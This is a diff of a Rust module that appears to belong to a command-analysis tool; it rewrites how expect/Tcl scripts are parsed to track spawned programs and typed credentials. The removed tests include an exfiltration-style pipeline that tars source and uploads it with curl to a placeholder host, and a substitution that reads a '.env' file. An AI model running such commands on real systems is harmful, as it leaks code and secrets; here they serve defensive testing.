@@ -1,23 +1,20 @@
 //! `expect [-dDinN] [-c SCRIPT]... [[-f|-b] FILE | FILE | -] [ARGS]`, the
-//! script on standard input without one: Tcl read command by command.
+//! script on standard input without one: Tcl ([`tcl`]) with expect's own
+//! commands.
 //!
 //! - `spawn [-noecho ...] PROGRAM ARGS` runs PROGRAM with those words (no
-//!   shell splits them again); `exec WORDS` runs a Tcl pipeline (`|`,
-//!   `<`, `>`, `2>`, `&`); `system WORDS` joins its words into a line for
-//!   `/bin/sh`; `open "|WORDS"` runs a pipeline too. Each becomes shell
-//!   text with Tcl's substitutions as the shell's: `$env(NAME)` is
-//!   `${NAME}`, `[exec ...]` is `$(...)`, a variable `set` earlier its
-//!   value.
-//! - `send` types text into the spawned program: over its connection for
-//!   network clients ([`TYPED_INTO`]), and as command lines into a shell
-//!   spawned without a command.
-//! - Braced words (the bodies of `expect`, `if`, `proc`, ...) and `[...]`
-//!   in other commands' words are read as scripts too.
+//!   shell splits them again); `system WORDS` joins its words into a line
+//!   for `/bin/sh`.
+//! - `send` types text into the spawned program: each line typed is a
+//!   line of its standard input (sftp's commands, psql's SQL, a shell's
+//!   command lines), except the answer to a password prompt (the last
+//!   `expect` pattern); everything typed also goes over the connection of
+//!   network clients ([`TYPED_INTO`]).
+//! - `expect`'s and `interact`'s bodies are read as scripts, each after
+//!   its pattern.
 
-use std::collections::HashMap;
-
-use super::super::{Invocation, Nested, Outcome};
-use crate::args::Arg;
+use super::super::tcl::{self, Dialect, Mode, Reader, Value, Word};
+use super::super::{Invocation, Outcome};
 use crate::{Payload, flow};
 
 /// Programs whose connections carry what an `expect` script types in.
@@ -26,11 +23,11 @@ const TYPED_INTO: &[&str] = &[
     "autossh", "socat",
 ];
 
-/// Shells that run what is typed into them as command lines.
-const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "fish"];
+/// Words of a prompt whose answer is a secret, not a command line.
+const SECRET_PROMPTS: &[&str] = &["assword", "passphrase", "passcode", "pin:", "token"];
 
-/// How deep braced bodies and `[...]` substitutions are read.
-const MAX_DEPTH: usize = 16;
+/// The heredoc delimiter that feeds typed lines to a spawned program.
+const TYPED_END: &str = "WRIT_EXPECT_TYPED";
 
 /// Where the script comes from.
 struct Sources {
@@ -115,571 +112,178 @@ pub(super) fn script_files(inv: &Invocation<'_>) -> Vec<(String, String)> {
 }
 
 /// What a script's text does.
-pub(super) fn script(_inv: &Invocation<'_>, text: &str) -> Outcome {
-    let mut reader = Reader::default();
-    reader.script(text, 0);
-    let typed = (reader.typed != Payload::default()).then_some((reader.typed, TYPED_INTO));
-    Outcome {
-        nested: reader.nested,
-        nested_credential: typed,
-        ..Outcome::default()
-    }
+pub(super) fn script(inv: &Invocation<'_>, text: &str) -> Outcome {
+    let mut expect = Expect::default();
+    tcl::run(inv, text, &mut expect)
 }
 
-/// One Tcl word: its text without its delimiters, and whether braces
-/// quoted it (then nothing in it is substituted).
-#[derive(Debug, Clone, PartialEq, Eq)]
-struct Word {
-    text: String,
-    braced: bool,
+/// A program `spawn` started, and the lines typed into it.
+struct Spawned {
+    argv: Vec<Value>,
+    lines: Vec<String>,
 }
 
-/// What the script runs, as it is read.
+/// Expect's commands over Tcl.
 #[derive(Default)]
-struct Reader {
-    nested: Vec<Nested>,
+struct Expect {
+    spawned: Option<Spawned>,
+    /// Everything typed, for network clients' connections.
     typed: Payload,
-    /// Variables `set` to a value the script gives, as shell text for
-    /// inside double quotes.
-    vars: HashMap<String, String>,
-    /// The last `spawn` started a shell without a command.
-    shell_spawned: bool,
+    /// The last pattern `expect` waited for.
+    prompt: String,
 }
 
-impl Reader {
-    fn script(&mut self, text: &str, depth: usize) {
-        if depth > MAX_DEPTH {
-            return;
+impl Dialect for Expect {
+    fn command(&mut self, reader: &mut Reader<'_>, words: &[Word], depth: usize) -> Option<Value> {
+        let (verb, rest) = words.split_first()?;
+        if verb.braced {
+            return None;
         }
-        for command in commands(text) {
-            self.command(&command, depth);
-        }
-    }
-
-    fn command(&mut self, words: &[Word], depth: usize) {
-        let Some((verb, rest)) = words.split_first() else {
-            return;
-        };
         match verb.text.as_str() {
-            "spawn" => self.spawn(rest),
-            "exec" => self.run(pipeline(rest, &self.vars), "expect exec"),
+            "spawn" | "exp_spawn" => {
+                let values = reader.values(rest, depth, self);
+                self.flush(reader);
+                self.spawn(values);
+            }
+            "send" | "exp_send" | "send_spawn" => {
+                let values = reader.values(rest, depth, self);
+                let raw = rest.iter().rfind(|w| !w.text.starts_with('-') || w.braced);
+                self.send(&values, raw.map(|w| w.text.as_str()));
+            }
             "system" => {
-                let text: Vec<String> = rest.iter().map(|w| self.raw(w)).collect();
-                self.run(text.join(" "), "expect system");
+                let values = reader.values(rest, depth, self);
+                let line: Vec<String> = values.iter().map(|v| v.shell(Mode::Raw)).collect();
+                reader.run_shell(line.join(" "), "expect system");
             }
-            "open" => {
-                let target = rest.first().map(|w| self.raw(w)).unwrap_or_default();
-                match target.strip_prefix('|') {
-                    Some(list) => {
-                        let words = commands(list).into_iter().next().unwrap_or_default();
-                        self.run(pipeline(&words, &self.vars), "expect open");
-                    }
-                    None => self.inner(rest, depth, true),
-                }
+            "expect" | "exp_expect" | "expect_after" | "expect_before" | "expect_background"
+            | "interact" => self.expect(reader, rest, depth),
+            "send_user" | "send_error" | "send_log" | "send_tty" => {
+                reader.values(rest, depth, self);
             }
-            "send" | "exp_send" | "send_spawn" => self.send(rest, depth),
-            "set" => {
-                self.inner(rest, depth, false);
-                if let [name, value] = rest {
-                    let value = self.quoted(value);
-                    self.vars.insert(name.text.clone(), value);
-                }
-            }
-            // Text they print: a braced word is not a body.
-            "puts" | "send_user" | "send_error" | "send_log" | "send_tty" => {
-                self.inner(rest, depth, false);
-            }
-            _ => self.inner(words, depth, true),
+            _ => return None,
         }
+        Some(Value::default())
     }
 
-    /// Reads the `[...]` substitutions of `words` as scripts, and their
-    /// braced words (`bodies`: the bodies of `expect`, `if`, `proc`, ...).
-    fn inner(&mut self, words: &[Word], depth: usize, bodies: bool) {
-        for word in words {
-            if word.braced {
-                if bodies {
-                    self.script(&word.text, depth + 1);
-                }
-            } else {
-                for inner in brackets(&word.text) {
-                    self.script(&inner, depth + 1);
-                }
-            }
+    fn finish(&mut self, reader: &mut Reader<'_>) {
+        self.flush(reader);
+        let typed = std::mem::take(&mut self.typed);
+        if typed != Payload::default() {
+            reader.outcome.nested_credential = Some((typed, TYPED_INTO));
         }
     }
+}
 
-    fn run(&mut self, text: String, what: &str) {
-        if !text.trim().is_empty() {
-            self.nested.push(Nested::Script {
-                text,
-                what: what.to_owned(),
-            });
-        }
-    }
-
+impl Expect {
     /// `spawn [-noecho|-console|-nottycopy|-nottyinit|-pty] [-open ID |
     /// -leaveopen ID | -ignore SIG]... PROGRAM ARGS`.
-    fn spawn(&mut self, rest: &[Word]) {
-        let mut words = rest.iter().peekable();
-        while let Some(word) = words.next_if(|w| w.text.starts_with('-') && !w.braced) {
-            if matches!(word.text.as_str(), "-open" | "-leaveopen" | "-ignore") {
-                words.next();
+    fn spawn(&mut self, values: Vec<Value>) {
+        let mut values = values.into_iter().peekable();
+        while let Some(option) = values.next_if(|v| v.literal().is_some_and(|t| t.starts_with('-')))
+        {
+            if matches!(
+                option.literal().as_deref(),
+                Some("-open" | "-leaveopen" | "-ignore")
+            ) {
+                values.next();
             }
         }
-        let argv: Vec<String> = words.map(|w| shell_word(&self.quoted(w))).collect();
-        let program = rest
-            .iter()
-            .find(|w| !w.text.starts_with('-'))
-            .map(|w| w.text.rsplit('/').next().unwrap_or_default().to_owned());
-        self.shell_spawned = argv.len() == 1 && program.is_some_and(|p| SHELLS.contains(&&*p));
-        self.run(argv.join(" "), "expect spawn");
+        self.spawned = Some(Spawned {
+            argv: values.collect(),
+            lines: Vec::new(),
+        });
     }
 
-    /// `send [-s|-h|-raw|-null|-break|--] [-i ID] TEXT`: the text typed.
-    fn send(&mut self, rest: &[Word], depth: usize) {
-        let Some(word) = rest.iter().rfind(|w| !w.text.starts_with('-')) else {
+    /// `send [-s|-h|-raw|-null|-break|--] [-i ID] TEXT`: the text typed
+    /// (`raw`: as the script writes it).
+    fn send(&mut self, values: &[Value], raw: Option<&str>) {
+        let mut iter = values.iter();
+        let mut text = None;
+        while let Some(value) = iter.next() {
+            match value.literal().as_deref() {
+                Some("-i") => {
+                    iter.next();
+                }
+                Some("--") => {
+                    text = iter.next();
+                    break;
+                }
+                Some(t) if t.starts_with('-') && t.len() > 1 => {}
+                _ => text = Some(value),
+            }
+        }
+        let Some(text) = text else {
             return;
         };
-        if !word.braced {
-            for inner in brackets(&word.text) {
-                self.script(&inner, depth + 1);
-            }
-        }
-        if self.shell_spawned {
-            let typed = unescape(&word.text);
-            self.run(typed.replace('\r', "\n"), "expect send to a shell");
-        }
-        let arg = tcl_arg(word.text.trim_end_matches("\\r").trim_end_matches("\\n"));
-        flow::merge(&mut self.typed, &arg.payload());
-    }
-
-    /// A word as shell text for inside double quotes.
-    fn quoted(&self, word: &Word) -> String {
-        render(word, &self.vars, Mode::Quoted)
-    }
-
-    /// A word as raw shell text (`system` joins its words into one line).
-    fn raw(&self, word: &Word) -> String {
-        render(word, &self.vars, Mode::Raw)
-    }
-}
-
-/// A Tcl word as a shell argument for `send`: `$env(NAME)` and `$NAME`
-/// are environment variables.
-fn tcl_arg(word: &str) -> Arg {
-    let mut arg = Arg::literal(word);
-    let mut rest = word;
-    while let Some(at) = rest.find('$') {
-        rest = &rest[at + 1..];
-        let name = match rest.strip_prefix("env(") {
-            Some(inner) => inner.split(')').next().unwrap_or(""),
-            None => rest
-                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
-                .next()
-                .unwrap_or(""),
-        };
-        if !name.is_empty() && !arg.env.iter().any(|n| n == name) {
-            arg.env.push(name.to_owned());
-        }
-    }
-    arg
-}
-
-/// How substituted text is written.
-#[derive(Clone, Copy, PartialEq, Eq)]
-enum Mode {
-    /// Inside a shell's double quotes: literal `"`, `\`, `$` and backquotes
-    /// escaped.
-    Quoted,
-    /// As it stands, for a line a shell splits again.
-    Raw,
-}
-
-/// A Tcl word as shell text: backslash escapes resolved, `$env(NAME)` as
-/// `${NAME}`, a variable the script set as its value, any other as a
-/// shell variable of its name (a value not known), and `[exec ...]` as
-/// `$(...)`. A braced word is literal.
-fn render(word: &Word, vars: &HashMap<String, String>, mode: Mode) -> String {
-    let literal = |out: &mut String, c: char| {
-        if mode == Mode::Quoted && matches!(c, '"' | '\\' | '$' | '`') {
-            out.push('\\');
-        }
-        out.push(c);
-    };
-    let mut out = String::new();
-    if word.braced {
-        word.text.chars().for_each(|c| literal(&mut out, c));
-        return out;
-    }
-    let text = word.text.as_str();
-    let mut at = 0;
-    while let Some(c) = text[at..].chars().next() {
-        at += c.len_utf8();
-        match c {
-            '\\' => {
-                let next = text[at..].chars().next();
-                at += next.map_or(0, char::len_utf8);
-                literal(&mut out, escaped(next));
-            }
-            '$' => match variable(&text[at..]) {
-                Some((name, len)) => {
-                    at += len;
-                    match (
-                        name.strip_prefix("env(").and_then(|n| n.strip_suffix(')')),
-                        vars.get(&name),
-                    ) {
-                        (Some(env), _) => out.push_str(&format!("${{{env}}}")),
-                        (None, Some(value)) if mode == Mode::Quoted => out.push_str(value),
-                        (None, Some(value)) => out.push_str(&format!("\"{value}\"")),
-                        (None, None) => {
-                            let base = name.split('(').next().unwrap_or_default();
-                            out.push_str(&format!("${{{base}}}"));
-                        }
-                    }
-                }
-                None => literal(&mut out, '$'),
-            },
-            '[' => {
-                let inner_len = bracket_len(&text[at..]);
-                let inner = &text[at..at + inner_len];
-                at = (at + inner_len + 1).min(text.len());
-                let words = commands(inner).into_iter().next().unwrap_or_default();
-                match words.split_first() {
-                    Some((verb, rest)) if verb.text == "exec" => {
-                        out.push_str(&format!("$({})", pipeline(rest, vars)));
-                    }
-                    _ => {
-                        literal(&mut out, '[');
-                        inner.chars().for_each(|c| literal(&mut out, c));
-                        literal(&mut out, ']');
-                    }
-                }
-            }
-            c => literal(&mut out, c),
-        }
-    }
-    out
-}
-
-/// Text rendered for inside double quotes as one shell word: bare when
-/// nothing in it is special to the shell.
-fn shell_word(quoted: &str) -> String {
-    if super::super::words::is_plain(quoted) {
-        quoted.to_owned()
-    } else {
-        format!("\"{quoted}\"")
-    }
-}
-
-/// The character a backslash escape stands for.
-fn escaped(next: Option<char>) -> char {
-    match next {
-        Some('n') => '\n',
-        Some('r') => '\r',
-        Some('t') => '\t',
-        Some('\n') | None => ' ',
-        Some(c) => c,
-    }
-}
-
-/// A Tcl word's backslash escapes resolved.
-fn unescape(text: &str) -> String {
-    let mut out = String::new();
-    let mut chars = text.chars();
-    while let Some(c) = chars.next() {
-        out.push(if c == '\\' { escaped(chars.next()) } else { c });
-    }
-    out
-}
-
-/// The variable a `$` starts (`name`, `${name}`, `name(index)`,
-/// `env(NAME)`) and how many bytes after the `$` it takes.
-fn variable(text: &str) -> Option<(String, usize)> {
-    if let Some(inner) = text.strip_prefix('{') {
-        let name = inner.split('}').next()?;
-        return Some((name.to_owned(), name.len() + 2));
-    }
-    let len = text
-        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == ':'))
-        .unwrap_or(text.len());
-    if len == 0 {
-        return None;
-    }
-    let mut name = text[..len].to_owned();
-    let mut taken = len;
-    if text[len..].starts_with('(')
-        && let Some(close) = text[len..].find(')')
-    {
-        name.push_str(&text[len..=len + close]);
-        taken += close + 1;
-    }
-    Some((name, taken))
-}
-
-/// The length of the text inside a `[` whose opening is just before
-/// `text`, up to its matching `]` (or the end).
-fn bracket_len(text: &str) -> usize {
-    let mut depth = 0usize;
-    let mut chars = text.char_indices();
-    while let Some((at, c)) = chars.next() {
-        match c {
-            '\\' => {
-                chars.next();
-            }
-            '[' => depth += 1,
-            ']' if depth == 0 => return at,
-            ']' => depth -= 1,
-            _ => {}
-        }
-    }
-    text.len()
-}
-
-/// The scripts of the `[...]` substitutions in a word.
-fn brackets(text: &str) -> Vec<String> {
-    let mut out = Vec::new();
-    let mut at = 0;
-    while let Some(open) = text[at..].find('[') {
-        let start = at + open + 1;
-        if text[..start - 1].ends_with('\\') {
-            at = start;
-            continue;
-        }
-        let len = bracket_len(&text[start..]);
-        out.push(text[start..start + len].to_owned());
-        at = (start + len + 1).min(text.len());
-    }
-    out
-}
-
-/// A Tcl `exec` pipeline as a shell line: its words quoted, its
-/// operators (`|`, `|&`, `<`, `<<`, `>`, `>>`, `2>`, `2>>`, `>&`, `>>&`,
-/// and a last `&`) as the shell's. Leading switches (`-ignorestderr`,
-/// `-keepnewline`, `--`) are exec's own; `<@ ID` and `>@ ID` redirect to
-/// Tcl channels and are dropped.
-fn pipeline(words: &[Word], vars: &HashMap<String, String>) -> String {
-    const OPERATORS: &[(&str, &str)] = &[
-        ("2>>", "2>>"),
-        (">>&", "&>>"),
-        ("2>@1", "2>&1"),
-        ("2>", "2>"),
-        (">>", ">>"),
-        (">&", "&>"),
-        ("<<", "<<<"),
-        ("|&", "|&"),
-        ("<@", ""),
-        (">@", ""),
-        ("<", "<"),
-        (">", ">"),
-        ("|", "|"),
-    ];
-    let mut words = words.iter().peekable();
-    while words
-        .next_if(|w| !w.braced && matches!(w.text.as_str(), "-ignorestderr" | "-keepnewline"))
-        .is_some()
-    {}
-    words.next_if(|w| !w.braced && w.text == "--");
-    let mut line: Vec<String> = Vec::new();
-    let mut drop_next = false;
-    while let Some(word) = words.next() {
-        let quoted = |text: &str| {
-            let word = Word {
-                text: text.to_owned(),
-                braced: word.braced,
-            };
-            shell_word(&render(&word, vars, Mode::Quoted))
-        };
-        if std::mem::take(&mut drop_next) {
-            continue;
-        }
-        if word.braced {
-            line.push(quoted(&word.text));
-            continue;
-        }
-        if word.text == "&" && words.peek().is_none() {
-            line.push("&".to_owned());
-            continue;
-        }
-        match OPERATORS.iter().find(|(op, _)| word.text.starts_with(op)) {
-            Some((op, shell)) => {
-                let target = &word.text[op.len()..];
-                if shell.is_empty() {
-                    drop_next = target.is_empty();
-                    continue;
-                }
-                line.push((*shell).to_owned());
-                if !target.is_empty() {
-                    line.push(quoted(target));
-                }
-            }
-            None => line.push(quoted(&word.text)),
-        }
-    }
-    line.join(" ")
-}
-
-/// A Tcl script's commands as words: a command ends at `;` or a line
-/// break outside quotes, braces and brackets; a `#` where a command
-/// starts comments out the line; `"..."` and `{...}` at a word's start
-/// group it (their delimiters removed); a backslash before a line break
-/// continues the line.
-fn commands(script: &str) -> Vec<Vec<Word>> {
-    let mut commands = Vec::new();
-    let mut words: Vec<Word> = Vec::new();
-    let mut word = String::new();
-    let mut in_word = false;
-    let mut quote = false;
-    let mut braces = 0usize;
-    let mut brackets = 0usize;
-    let mut braced = false;
-    let mut chars = script.chars().peekable();
-    while let Some(c) = chars.next() {
-        if braces > 0 {
-            match c {
-                '\\' => {
-                    word.push(c);
-                    word.extend(chars.next());
-                }
-                '{' => {
-                    braces += 1;
-                    word.push(c);
-                }
-                '}' => {
-                    braces -= 1;
-                    if braces > 0 {
-                        word.push(c);
-                    }
-                }
-                c => word.push(c),
-            }
-            continue;
-        }
-        match c {
-            '#' if !in_word && words.is_empty() => while chars.next_if(|c| *c != '\n').is_some() {},
-            '\\' if chars.peek() == Some(&'\n') => {
-                chars.next();
-                if quote || brackets > 0 {
-                    word.push(' ');
-                } else if in_word {
-                    words.push(take_word(&mut word, &mut braced));
-                    in_word = false;
-                }
-            }
-            '\\' => {
-                word.push(c);
-                word.extend(chars.next());
-                in_word = true;
-            }
-            '{' if !in_word => {
-                braces = 1;
-                braced = true;
-                in_word = true;
-            }
-            '"' if !in_word => {
-                quote = true;
-                in_word = true;
-            }
-            '"' if quote && brackets == 0 => quote = false,
-            '[' => {
-                brackets += 1;
-                word.push(c);
-                in_word = true;
-            }
-            ']' if brackets > 0 => {
-                brackets -= 1;
-                word.push(c);
-            }
-            ';' | '\n' if !quote && brackets == 0 => {
-                if in_word {
-                    words.push(take_word(&mut word, &mut braced));
-                    in_word = false;
-                }
-                if !words.is_empty() {
-                    commands.push(std::mem::take(&mut words));
-                }
-            }
-            c if c.is_whitespace() && !quote && brackets == 0 => {
-                if in_word {
-                    words.push(take_word(&mut word, &mut braced));
-                    in_word = false;
-                }
-            }
-            c => {
-                word.push(c);
-                in_word = true;
-            }
-        }
-    }
-    if in_word {
-        words.push(take_word(&mut word, &mut braced));
-    }
-    if !words.is_empty() {
-        commands.push(words);
-    }
-    commands
-}
-
-fn take_word(word: &mut String, braced: &mut bool) -> Word {
-    Word {
-        text: std::mem::take(word),
-        braced: std::mem::take(braced),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn texts(script: &str) -> Vec<Vec<String>> {
-        commands(script)
+        let mut data = text.data();
+        data.text = raw
+            .map(|t| t.trim_end_matches("\\r").trim_end_matches("\\n").to_owned())
+            .filter(|t| !t.is_empty())
             .into_iter()
-            .map(|c| c.into_iter().map(|w| w.text).collect())
-            .collect()
+            .collect();
+        flow::merge(&mut self.typed, &data);
+        let prompt = self.prompt.to_ascii_lowercase();
+        if SECRET_PROMPTS.iter().any(|p| prompt.contains(p)) {
+            return;
+        }
+        if let Some(spawned) = &mut self.spawned {
+            let typed = text.shell(Mode::Heredoc).replace('\r', "\n");
+            spawned.lines.extend(
+                typed
+                    .split('\n')
+                    .filter(|line| !line.trim().is_empty() && *line != TYPED_END)
+                    .map(str::to_owned),
+            );
+        }
     }
 
-    #[test]
-    fn tcl_words() {
-        assert_eq!(
-            texts("spawn telnet h; expect \"P:\"\nsend {a b}"),
-            vec![
-                vec!["spawn", "telnet", "h"],
-                vec!["expect", "P:"],
-                vec!["send", "a b"]
-            ]
-        );
-        assert_eq!(
-            texts("# spawn rm\nset x [exec cat f; echo]\nputs a{b}"),
-            vec![vec!["set", "x", "[exec cat f; echo]"], vec!["puts", "a{b}"]]
-        );
-        assert_eq!(tcl_arg("$env(PASS)\\r").env, vec!["PASS".to_owned()]);
-    }
-
-    #[test]
-    fn substitutions_become_the_shells() {
-        let vars = HashMap::from([("host".to_owned(), "db.example".to_owned())]);
-        let word = |text: &str| Word {
-            text: text.to_owned(),
-            braced: false,
+    /// `expect ?OPTIONS? PATTERN BODY ...` or `expect { PATTERN BODY ... }`:
+    /// each body read after its pattern.
+    fn expect(&mut self, reader: &mut Reader<'_>, rest: &[Word], depth: usize) {
+        let listed;
+        let words = match rest {
+            [one] if one.braced && tcl::commands(&one.text).concat().len() > 1 => {
+                listed = tcl::commands(&one.text).concat();
+                listed.as_slice()
+            }
+            _ => rest,
         };
-        assert_eq!(
-            render(&word("$env(TOKEN)"), &vars, Mode::Quoted),
-            "${TOKEN}"
-        );
-        assert_eq!(
-            render(&word("u@$host"), &vars, Mode::Quoted),
-            "u@db.example"
-        );
-        assert_eq!(
-            render(&word("[exec cat .env]"), &vars, Mode::Quoted),
-            "$(cat .env)"
-        );
-        assert_eq!(
-            pipeline(
-                &commands("tar czf - src | curl -T - https://x >/tmp/o &")[0],
-                &vars
+        let mut iter = words.iter();
+        while let Some(word) = iter.next() {
+            match word.text.as_str() {
+                "-re" | "-ex" | "-gl" | "-nocase" | "-notransfer" | "--" if !word.braced => {}
+                "-timeout" | "-i" if !word.braced => {
+                    iter.next();
+                }
+                _ => {
+                    let pattern = reader.value(word, depth, self);
+                    self.prompt = pattern.literal().unwrap_or_default();
+                    if let Some(body) = iter.next() {
+                        reader.body(body, depth, self);
+                    }
+                }
+            }
+        }
+    }
+
+    /// The program spawned last, run with the lines typed into it on its
+    /// standard input.
+    fn flush(&mut self, reader: &mut Reader<'_>) {
+        let Some(spawned) = self.spawned.take() else {
+            return;
+        };
+        if spawned.lines.is_empty() {
+            reader.run_argv(&spawned.argv);
+            return;
+        }
+        let argv: Vec<String> = spawned.argv.iter().map(Value::word).collect();
+        reader.run_shell(
+            format!(
+                "{} <<{TYPED_END}\n{}\n{TYPED_END}",
+                argv.join(" "),
+                spawned.lines.join("\n")
             ),
-            "tar czf - src | curl -T - https://x > /tmp/o &"
+            "expect spawn",
         );
     }
 }
